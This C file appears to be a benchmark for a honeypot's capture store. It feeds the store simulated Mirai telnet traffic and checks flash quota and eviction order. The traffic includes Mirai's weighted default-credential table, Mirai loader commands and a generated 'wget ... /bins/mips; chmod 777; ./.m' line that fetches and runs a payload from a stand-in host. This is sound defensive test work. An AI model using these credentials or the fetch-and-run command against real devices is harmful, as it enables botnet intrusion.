/* flashsim.c — the capture store on a simulated busy line, at accelerated
 * time (make bench; tests/bench/bench.py runs it).
 *
 * Drives the real store (libtanuki.a: store_open/event/tick/put_file, the
 * sealing, the day files and the eviction) with the clock of sys.h set by
 * hand: one store tick per simulated second, as the daemon's tick runs at
 * min(flush, sync) = 1 s. The line: N login attempts a day (Mirai's
 * credential table with its weights), from a pool of about S sources
 * (a third replaced each day; a bot tries a few times, seconds apart),
 * L loader sessions a day (login, the usual commands, a download of one
 * of the binaries), a new 60 KiB binary every day (30 a month). By default
 * no uplink: nothing is delivered, as on a decoy whose uplink is down.
 *
 * Checked on every tick: the store's own count of its bytes is within the
 * quota. Checked every simulated 10 minutes (`check`) and after every seal, binary
 * or eviction: the real bytes of the files in the folder are within the
 * quota, days/ is within DAYS_BUDGET, segments are evicted oldest first,
 * and an evicted binary is named by no segment still held. A failed check
 * prints FAIL and exits 1.
 *
 * Usage: flashsim DIR [days N] [attempts N] [sources N] [loaders N]
 *                      [quota BYTES] [tick SECONDS] [check SECONDS] [seal_h HOURS]
 *                      [segment_kb KB] [delivered 0|1] [label TEXT]
 * delivered 1: an uplink that works — every 5 simulated minutes <store>/cursor
 * names the newest sealed segment (what the uplink writes after the hub's
 * ack), so delivered segments and the binaries only they name can go.
 * (tick > 1 only for the year-long aggregate run, to keep it short.)
 * Prints "key value" lines (bench.py turns them into its table).
 */
#include <dirent.h>
#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "buf.h"
#include "isotime.h"
#include "json.h"
#include "store/days.h"
#include "store/seal.h"
#include "store/store.h"
#include "sys/sys.h"

#define DAY_S 86400
#define BIN_SIZE (60 * 1024)
#define START_US INT64_C(1767225600000000) /* 2026-01-01T00:00:00Z */

static const struct {
	const char *u, *p;
	unsigned w;
} creds[] = {
	/* Mirai's scanner table (scanner.c), with its weights */
	{"root", "xc3511", 10}, {"root", "vizxv", 9}, {"root", "admin", 8},
	{"admin", "admin", 7}, {"root", "888888", 6}, {"root", "xmhdipc", 5},
	{"root", "default", 5}, {"root", "juantech", 5}, {"root", "123456", 5},
	{"root", "54321", 5}, {"support", "support", 5}, {"root", "", 4},
	{"admin", "password", 4}, {"root", "root", 4}, {"root", "12345", 4},
	{"user", "user", 3}, {"admin", "", 3}, {"root", "pass", 3},
	{"admin", "admin1234", 3}, {"root", "1111", 3}, {"admin", "smcadmin", 3},
	{"admin", "1111", 2}, {"root", "666666", 2}, {"root", "password", 2},
	{"root", "1234", 2}, {"root", "klv123", 1}, {"Administrator", "admin", 1},
	{"service", "service", 1}, {"supervisor", "supervisor", 1}, {"guest", "guest", 1},
	{"guest", "12345", 1}, {"admin1", "password", 1}, {"administrator", "1234", 1},
	{"666666", "666666", 1}, {"888888", "888888", 1}, {"ubnt", "ubnt", 1},
	{"root", "klv1234", 1}, {"root", "Zte521", 1}, {"root", "hi3518", 1},
	{"root", "jvbzd", 1}, {"root", "anko", 4}, {"root", "zlxx.", 1},
	{"root", "7ujMko0vizxv", 1}, {"root", "7ujMko0admin", 1}, {"root", "system", 1},
	{"root", "ikwb", 1}, {"root", "dreambox", 1}, {"root", "user", 1},
	{"root", "realtek", 1}, {"root", "00000000", 1}, {"admin", "1111111", 1},
	{"admin", "1234", 1}, {"admin", "12345", 1}, {"admin", "54321", 1},
	{"admin", "123456", 1}, {"admin", "7ujMko0admin", 1}, {"admin", "pass", 1},
	{"admin", "meinsm", 1}, {"tech", "tech", 1}, {"mother", "fucker", 1},
};
#define NCREDS (sizeof creds / sizeof creds[0])

static const char *const loader_cmds[] = {
	"enable", "system", "shell", "sh", "/bin/busybox ECCHI",
	"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
};

static uint64_t rng = 88172645463325252ull;

static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

static unsigned below(unsigned n)
{
	return (unsigned)(rnd() % n);
}

enum { K_CONNECT, K_FAIL, K_OK, K_CMD, K_DOWNLOAD, K_CLOSED };

struct conn {
	uint32_t ip;
	uint16_t port;
	uint8_t cred, loader;
	uint16_t bin;
	int64_t start;
	char sid[SEAL_SID_LEN + 1];
};

struct ev {
	int64_t t; /* µs, ms precision */
	uint32_t conn;
	uint8_t kind, arg;
};

static int cmp_ev(const void *a, const void *b)
{
	const struct ev *x = a, *y = b;

	if (x->t != y->t)
		return x->t < y->t ? -1 : 1;
	if (x->conn != y->conn)
		return x->conn < y->conn ? -1 : 1;
	return (int)x->kind - (int)y->kind;
}

static const char *dir;
static struct store st;
static uint64_t quota;
static int failed;
static uint64_t max_real, max_days_bytes, notes_seen, files_evicted;
static char last_seg_evicted[STORE_SEG_NAME];
static uint64_t sealed_bytes_evicted, attempts_evicted;

#define CHECK(cond, ...) \
	do { \
		if (!(cond)) { \
			printf("FAIL "); \
			printf(__VA_ARGS__); \
			printf("\n"); \
			failed = 1; \
		} \
	} while (0)

static uint64_t dir_size(const char *sub, size_t *count)
{
	char p[512];
	DIR *d;
	struct dirent *e;
	uint64_t sum = 0;

	snprintf(p, sizeof p, "%s/%s", dir, sub);
	if (count)
		*count = 0;
	d = opendir(p);
	if (!d)
		return 0;
	while ((e = readdir(d))) {
		char f[1024];
		struct stat sb;

		if (e->d_name[0] == '.')
			continue;
		snprintf(f, sizeof f, "%s/%s", p, e->d_name);
		if (!stat(f, &sb) && S_ISREG(sb.st_mode)) {
			sum += (uint64_t)sb.st_size;
			if (count)
				++*count;
		}
	}
	closedir(d);
	return sum;
}

static uint64_t real_bytes(void)
{
	return dir_size("events", NULL) + dir_size("files", NULL) + dir_size("days", NULL) +
	       dir_size("", NULL);
}

static char *slurp(const char *path, size_t *n)
{
	FILE *f = fopen(path, "rb");
	char *p = NULL;
	long l;

	*n = 0;
	if (!f)
		return NULL;
	if (!fseek(f, 0, SEEK_END) && (l = ftell(f)) >= 0 && !fseek(f, 0, SEEK_SET)) {
		p = malloc((size_t)l + 1);
		if (p && fread(p, 1, (size_t)l, f) == (size_t)l)
			*n = (size_t)l;
	}
	fclose(f);
	return p;
}

static char delivered_through[STORE_SEG_NAME]; /* the cursor's first line */

/* Is the binary `hex` named by a segment still held and not delivered? */
static bool named(const char *hex)
{
	struct store_seg *v;
	size_t n, i;
	bool found = false;

	if (store_list_segments(dir, false, &v, &n))
		return true;
	for (i = 0; i < n && !found; i++) {
		char p[512];
		size_t len;
		char *b;

		if (delivered_through[0] && strcmp(v[i].base, delivered_through) <= 0)
			continue;

		snprintf(p, sizeof p, "%s/events/%s%s", dir, v[i].base,
			 v[i].sealed ? ".tzs" : ".jsonl");
		b = slurp(p, &len);
		if (!b)
			continue;
		if (v[i].sealed) {
			struct seal_info in;
			uint32_t k;

			if (!seal_check((const uint8_t *)b, len, &in))
				for (k = 0; k < in.nrefs; k++) {
					char h[SHA256_HEX];

					hash_hex(in.refs + 32 * k, 32, h);
					if (!strcmp(h, hex))
						found = true;
				}
		} else if (memmem(b, len, hex, 64)) {
			found = true;
		}
		free(b);
	}
	free(v);
	return found;
}

static int count_attempts(void *arg, const char *line, size_t n, int64_t ts)
{
	(void)ts;
	if (memmem(line, n, "\"eventid\":\"cowrie.login.failed\"", 31))
		++*(uint64_t *)arg;
	return 0;
}

/* Size and login attempts of a sealed segment. */
static uint64_t seg_attempts(const char *base, uint64_t *bytes)
{
	char p[512];
	size_t len;
	char *b;
	uint64_t c = 0;

	snprintf(p, sizeof p, "%s/events/%s.tzs", dir, base);
	b = slurp(p, &len);
	*bytes = len;
	if (b)
		seal_decode((const uint8_t *)b, len, count_attempts, &c);
	free(b);
	return c;
}

static void emit_line(struct buf *b)
{
	store_event(&st, b->p, b->len);
}

/* What the daemon does with a note: a tanuki.store.evicted event. Also
 * checks the order. */
static void on_note(void *arg, const struct store_note *n)
{
	struct buf b;
	struct json j;
	char ts[28];

	(void)arg;
	notes_seen++;
	if (!strcmp(n->kind, "segment")) {
		CHECK(strcmp(n->name, last_seg_evicted) > 0, "segment %s evicted after %s",
		      n->name, last_seg_evicted);
		snprintf(last_seg_evicted, sizeof last_seg_evicted, "%s", n->name);
	} else if (!strcmp(n->kind, "file")) {
		files_evicted++;
		CHECK(!named(n->name), "binary %s evicted while a held segment names it",
		      n->name);
	}
	buf_init(&b, 4096);
	json_open(&j, &b);
	json_cstr(&j, "eventid", "tanuki.store.evicted");
	iso_format(sys_wall_us() / 1000 * 1000, ts);
	json_cstr(&j, "timestamp", ts);
	json_cstr(&j, "session", "");
	json_cstr(&j, "sensor", "tanuki-7f3a");
	json_cstr(&j, "kind", n->kind);
	json_cstr(&j, "name", n->name);
	json_int(&j, "bytes", (int64_t)n->bytes);
	json_bool(&j, "delivered", n->delivered);
	json_cstr(&j, "reason", n->reason);
	if (!json_close(&j))
		emit_line(&b);
	buf_free(&b);
}

static void make_bin(unsigned idx, uint8_t *p)
{
	uint64_t x = 0x9e3779b97f4a7c15ull * (idx + 1);
	size_t i;

	memcpy(p, "\x7f" "ELF\1\1\1", 7);
	for (i = 7; i < BIN_SIZE; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		p[i] = (uint8_t)(x >> 24);
	}
}

static void write_event(struct conn *c, const struct ev *e, uint8_t *bin)
{
	static const char *const ids[] = {"cowrie.session.connect", "cowrie.login.failed",
					  "cowrie.login.success", "cowrie.command.input",
					  "cowrie.session.file_download", "cowrie.session.closed"};
	struct buf b;
	struct json j;
	char ts[28], ip[16];
	char hex[SHA256_HEX];

	if (e->kind == K_CONNECT)
		store_session_id(&st, c->sid);
	buf_init(&b, 4096);
	json_open(&j, &b);
	json_cstr(&j, "eventid", ids[e->kind]);
	iso_format(e->t, ts);
	json_cstr(&j, "timestamp", ts);
	json_cstr(&j, "session", c->sid);
	snprintf(ip, sizeof ip, "%u.%u.%u.%u", c->ip >> 24, c->ip >> 16 & 255, c->ip >> 8 & 255,
		 c->ip & 255);
	json_cstr(&j, "src_ip", ip);
	json_int(&j, "src_port", c->port);
	json_cstr(&j, "dst_ip", "203.0.113.7");
	json_int(&j, "dst_port", 23);
	json_cstr(&j, "sensor", "tanuki-7f3a");
	json_cstr(&j, "protocol", "telnet");
	switch (e->kind) {
	case K_CONNECT:
		json_cstr(&j, "message", "New connection");
		break;
	case K_FAIL:
	case K_OK:
		json_cstr(&j, "username", creds[c->cred].u);
		json_cstr(&j, "password", creds[c->cred].p);
		break;
	case K_CMD:
		if (e->arg < sizeof loader_cmds / sizeof loader_cmds[0]) {
			json_cstr(&j, "input", loader_cmds[e->arg]);
		} else {
			char cmd[200];

			snprintf(cmd, sizeof cmd,
				 "cd /tmp || cd /var/run; wget http://198.51.100.%u/bins/mips -O .m; "
				 "chmod 777 .m; ./.m telnet.loader", 1 + c->bin % 200);
			json_cstr(&j, "input", cmd);
		}
		break;
	case K_DOWNLOAD: {
		bool dup;
		char url[64], out[80];

		make_bin(c->bin, bin);
		if (store_put_file(&st, bin, BIN_SIZE, hex, &dup))
			hex[0] = '\0';
		snprintf(url, sizeof url, "http://198.51.100.%u/bins/mips", 1 + c->bin % 200);
		snprintf(out, sizeof out, "files/%s", hex);
		json_cstr(&j, "url", url);
		json_cstr(&j, "outfile", out);
		json_cstr(&j, "shasum", hex);
		break;
	}
	case K_CLOSED: {
		int64_t dur = e->t - c->start;
		char d[32];

		snprintf(d, sizeof d, "%" PRId64 ".%" PRId64, dur / 1000000, dur % 1000000 / 100000);
		json_cstr(&j, "duration", d);
		json_int(&j, "bytes_in", c->loader ? 400 : 21 + (int64_t)strlen(creds[c->cred].u) +
							     (int64_t)strlen(creds[c->cred].p));
		json_int(&j, "bytes_out", c->loader ? 900 : 97);
		break;
	}
	}
	if (!json_close(&j))
		emit_line(&b);
	buf_free(&b);
}

static unsigned pick_cred(unsigned total_w)
{
	unsigned r = below(total_w), i;

	for (i = 0; i < NCREDS; i++) {
		if (r < creds[i].w)
			return i;
		r -= creds[i].w;
	}
	return 0;
}

/* The uplink's side: the newest sealed segment is delivered. */
static void deliver(void)
{
	struct store_seg *v;
	size_t n, i;
	char p[512], line[STORE_SEG_NAME + 1];

	if (store_list_segments(dir, false, &v, &n))
		return;
	for (i = n; i-- > 0;)
		if (v[i].sealed) {
			snprintf(delivered_through, sizeof delivered_through, "%s", v[i].base);
			break;
		}
	free(v);
	if (!delivered_through[0])
		return;
	snprintf(p, sizeof p, "%s/cursor", dir);
	snprintf(line, sizeof line, "%s\n", delivered_through);
	sys_write_atomic(p, line, strlen(line));
}

static void real_check(const char *when)
{
	uint64_t r = real_bytes(), db = dir_size("days", NULL);

	if (r > max_real)
		max_real = r;
	if (db > max_days_bytes)
		max_days_bytes = db;
	CHECK(r <= quota, "%s: %" PRIu64 " bytes on flash, quota %" PRIu64, when, r, quota);
	CHECK(db <= DAYS_BUDGET, "%s: days/ holds %" PRIu64 " bytes", when, db);
}

int main(int argc, char **argv)
{
	unsigned days = 30, attempts = 20000, sources = 3000, loaders = 200, total_w = 0;
	bool delivered = false;
	unsigned tick = 1, every = 600, seal_h = 0, seg_kb = 0;
	const char *label = "busy";
	struct store_opts o;
	struct conn *conns;
	struct ev *evs;
	uint32_t *pool;
	uint8_t *bin;
	uint64_t t_attempts = 0, t_loaders = 0, checks = 0;
	uint64_t last_sealed = 0, last_files = 0, last_evicted = 0;
	clock_t c0 = clock();
	unsigned day, i;
	int a, rc;

	if (argc < 2) {
		fprintf(stderr, "usage: flashsim DIR [days N] [attempts N] [sources N] "
				"[loaders N] [quota BYTES] [label TEXT]\n");
		return 2;
	}
	dir = argv[1];
	quota = 2u << 20;
	for (a = 2; a + 1 < argc; a += 2) {
		unsigned long v = strtoul(argv[a + 1], NULL, 10);

		if (!strcmp(argv[a], "days"))
			days = (unsigned)v;
		else if (!strcmp(argv[a], "attempts"))
			attempts = (unsigned)v;
		else if (!strcmp(argv[a], "sources"))
			sources = (unsigned)v;
		else if (!strcmp(argv[a], "loaders"))
			loaders = (unsigned)v;
		else if (!strcmp(argv[a], "quota"))
			quota = v;
		else if (!strcmp(argv[a], "delivered"))
			delivered = v != 0;
		else if (!strcmp(argv[a], "segment_kb"))
			seg_kb = (unsigned)v;
		else if (!strcmp(argv[a], "seal_h"))
			seal_h = (unsigned)v;
		else if (!strcmp(argv[a], "check"))
			every = v ? (unsigned)v : 600;
		else if (!strcmp(argv[a], "tick"))
			tick = v ? (unsigned)v : 1;
		else if (!strcmp(argv[a], "label"))
			label = argv[a + 1];
	}
	for (i = 0; i < NCREDS; i++)
		total_w += creds[i].w;
	memset(&o, 0, sizeof o);
	o.quota = quota;
	o.reserve = 0;
	o.seal_age_ms = seal_h * 3600u * 1000u; /* 0: the default */
	o.segment_max = (size_t)seg_kb * 1024;  /* 0: the default */
	sys_fake_clock(START_US - 1000000, 1000);
	if ((rc = store_open(&st, dir, &o))) {
		fprintf(stderr, "flashsim: store_open %s: %s\n", dir, strerror(-rc));
		return 1;
	}
	st.note = on_note;
	pool = malloc(sources * sizeof(*pool));
	conns = malloc((size_t)(attempts + loaders) * sizeof(*conns));
	evs = malloc((size_t)(attempts * 3 + loaders * 12) * sizeof(*evs));
	bin = malloc(BIN_SIZE);
	if (!pool || !conns || !evs || !bin)
		return 1;
	for (i = 0; i < sources; i++)
		pool[i] = (uint32_t)rnd() | 0x01000000u;
	for (day = 0; day < days; day++) {
		int64_t d0 = START_US + (int64_t)day * DAY_S * 1000000;
		size_t nc = 0, ne = 0, k;
		int64_t sec;

		/* a third of the bots are new each day */
		for (i = 0; i < sources; i++)
			if (below(3) == 0)
				pool[i] = (uint32_t)rnd() | 0x01000000u;
		while (nc < attempts) {
			uint32_t ip = pool[below(sources)];
			unsigned burst = 1 + below(12);
			int64_t t = d0 + (int64_t)below(DAY_S - 600) * 1000000 + below(1000) * 1000;

			for (k = 0; k < burst && nc < attempts; k++) {
				struct conn *c = &conns[nc];
				int64_t ft = t + (150 + below(750)) * 1000;

				memset(c, 0, sizeof(*c));
				c->ip = ip;
				c->port = (uint16_t)(32768 + below(28000));
				c->cred = (uint8_t)pick_cred(total_w);
				c->start = t;
				evs[ne++] = (struct ev){t, (uint32_t)nc, K_CONNECT, 0};
				evs[ne++] = (struct ev){ft, (uint32_t)nc, K_FAIL, 0};
				evs[ne++] = (struct ev){ft + (5 + below(300)) * 1000, (uint32_t)nc,
							K_CLOSED, 0};
				nc++;
				t += (2000 + below(13000)) * (int64_t)1000;
			}
		}
		for (i = 0; i < loaders; i++) {
			struct conn *c = &conns[nc];
			int64_t t = d0 + (int64_t)below(DAY_S - 600) * 1000000;
			unsigned cmd;

			memset(c, 0, sizeof(*c));
			c->ip = pool[below(sources)];
			c->port = (uint16_t)(32768 + below(28000));
			c->cred = 0; /* root / xc3511 */
			c->loader = 1;
			/* today's binary, or one of the two before */
			c->bin = (uint16_t)(day >= 2 ? day - below(3) : day);
			c->start = t;
			evs[ne++] = (struct ev){t, (uint32_t)nc, K_CONNECT, 0};
			t += 400000;
			evs[ne++] = (struct ev){t, (uint32_t)nc, K_OK, 0};
			for (cmd = 0; cmd < 7; cmd++) {
				t += 150000 + below(300) * 1000;
				evs[ne++] = (struct ev){t, (uint32_t)nc, K_CMD, (uint8_t)cmd};
			}
			t += 1500000;
			evs[ne++] = (struct ev){t, (uint32_t)nc, K_DOWNLOAD, 0};
			t += 300000;
			evs[ne++] = (struct ev){t, (uint32_t)nc, K_CLOSED, 0};
			nc++;
		}
		t_attempts += attempts;
		t_loaders += loaders;
		qsort(evs, ne, sizeof(*evs), cmp_ev);
		k = 0;
		for (sec = 0; sec < DAY_S; sec += tick) {
			int64_t now = d0 + sec * 1000000, step = (int64_t)tick * 1000000;
			uint64_t mono = 1000 + (uint64_t)(now - START_US) / 1000 + 1000;

			while (k < ne && evs[k].t < now + step) {
				sys_fake_clock(evs[k].t, mono + (uint64_t)(evs[k].t - now) / 1000);
				write_event(&conns[evs[k].conn], &evs[k], bin);
				/* the daemon drains per tick; here after each call, so
				 * that the order is checked against the store as it was
				 * when it evicted */
				store_drain_notes(&st);
				k++;
			}
			sys_fake_clock(now + step, mono + (uint64_t)step / 1000);
			if (delivered && sec % 300 == 0)
				deliver();
			store_tick(&st, false);
			store_drain_notes(&st);
			/* the store's own count of its bytes on flash (not the
			 * events still in RAM), every tick */
			CHECK(st.used_base + st.seg_bytes <= quota,
			      "tick: store counts %" PRIu64 " bytes on flash, quota %" PRIu64,
			      (uint64_t)(st.used_base + st.seg_bytes), quota);
			CHECK(!st.over, "the store could not get under its limit");
			if (sec % every + tick >= every || st.st.sealed != last_sealed ||
			    st.st.files_new != last_files ||
			    st.st.evicted_segments + st.st.evicted_files != last_evicted) {
				real_check("check");
				checks++;
				last_sealed = st.st.sealed;
				last_files = st.st.files_new;
				last_evicted = st.st.evicted_segments + st.st.evicted_files;
			}
			if (failed)
				break;
		}
		if (failed)
			break;
	}
	store_tick(&st, true);
	store_drain_notes(&st);
	store_tick(&st, true);
	real_check("end");

	/* what the store holds at the end */
	{
		struct store_seg *v;
		size_t n, nsealed = 0, nfiles, ndays;
		uint64_t sbytes = 0, satt = 0, fbytes, dbytes;
		int64_t oldest = 0;
		double hours = (double)days * 24;

		if (!store_list_segments(dir, false, &v, &n)) {
			for (i = 0; i < n; i++) {
				uint64_t b;

				if (!v[i].sealed)
					continue;
				satt += seg_attempts(v[i].base, &b);
				sbytes += b;
				if (!nsealed++) {
					char p[512];
					size_t len;
					char *f;
					struct seal_info in;

					snprintf(p, sizeof p, "%s/events/%s.tzs", dir, v[i].base);
					f = slurp(p, &len);
					if (f && !seal_check((const uint8_t *)f, len, &in))
						oldest = in.first_us;
					free(f);
				}
			}
			free(v);
		}
		fbytes = dir_size("files", &nfiles);
		dbytes = dir_size("days", &ndays);
		(void)sealed_bytes_evicted;
		(void)attempts_evicted;
		printf("label %s\n", label);
		printf("days_simulated %u\n", days);
		printf("attempts %" PRIu64 "\n", t_attempts);
		printf("loader_sessions %" PRIu64 "\n", t_loaders);
		printf("events %" PRIu64 "\n", st.st.events);
		printf("events_dropped %" PRIu64 "\n", st.st.events_dropped);
		printf("bytes_per_attempt %.2f\n", satt ? (double)sbytes / (double)satt : 0.0);
		printf("sealed_held %zu\n", nsealed);
		printf("sealed_bytes_held %" PRIu64 "\n", sbytes);
		printf("attempts_held %" PRIu64 "\n", satt);
		printf("full_detail_days %.2f\n",
		       oldest ? (double)(START_US + (int64_t)days * DAY_S * 1000000 - oldest) / 86400e6
			      : 0.0);
		printf("binaries_held %zu\n", nfiles);
		printf("binaries_bytes %" PRIu64 "\n", fbytes);
		printf("days_held %zu\n", ndays);
		printf("days_bytes %" PRIu64 "\n", dbytes);
		printf("days_bytes_max %" PRIu64 "\n", max_days_bytes);
		printf("store_bytes_end %" PRIu64 "\n", real_bytes());
		printf("store_bytes_max %" PRIu64 "\n", max_real);
		printf("quota %" PRIu64 "\n", quota);
		printf("bytes_written %" PRIu64 "\n", st.st.bytes_written);
		printf("bytes_written_per_day %.0f\n", (double)st.st.bytes_written / days);
		printf("status_bytes_written %" PRIu64 "\n", st.st.status_bytes);
		printf("syncs %" PRIu64 "\n", st.st.syncs);
		printf("syncs_per_hour %.1f\n", (double)st.st.syncs / hours);
		printf("sealed %" PRIu64 "\n", st.st.sealed);
		printf("evicted_segments %" PRIu64 "\n", st.st.evicted_segments);
		printf("evicted_files %" PRIu64 "\n", st.st.evicted_files);
		printf("evicted_days %" PRIu64 "\n", st.st.evicted_days);
		printf("files_new %" PRIu64 "\n", st.st.files_new);
		printf("agg_failed %" PRIu64 "\n", st.st.agg_failed);
		printf("quota_checks %" PRIu64 "\n", checks);
		printf("cpu_seconds %.1f\n", (double)(clock() - c0) / CLOCKS_PER_SEC);
		printf("result %s\n", failed ? "FAIL" : "ok");
	}
	store_close(&st);
	sys_fake_clock(0, 0);
	free(pool);
	free(conns);
	free(evs);
	free(bin);
	return failed ? 1 : 0;
}
